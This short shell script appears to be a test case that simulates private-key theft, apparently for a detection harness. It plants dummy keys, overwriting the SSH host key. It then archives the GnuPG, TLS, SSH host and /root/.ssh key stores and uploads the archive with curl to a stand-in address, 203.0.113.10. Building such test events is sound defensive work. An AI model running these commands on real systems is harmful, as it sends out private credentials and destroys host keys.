#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.gnupg/private-keys-v1.d /etc/letsencrypt/live/shop /etc/ssl/private
for f in /root/.gnupg/private-keys-v1.d/A1B2.key /etc/letsencrypt/live/shop/privkey.pem /etc/ssl/private/shop.key /etc/ssh/ssh_host_ed25519_key; do openssl genpkey -algorithm ed25519 >"$f"; done
tar -czf /tmp/k.tgz /root/.gnupg/private-keys-v1.d /etc/letsencrypt/live /etc/ssl/private /etc/ssh/ssh_host_*_key /root/.ssh 2>/dev/null
curl -sf -F "file=@/tmp/k.tgz" http://203.0.113.10:8080/upload >/dev/null
rm /tmp/k.tgz
took_place
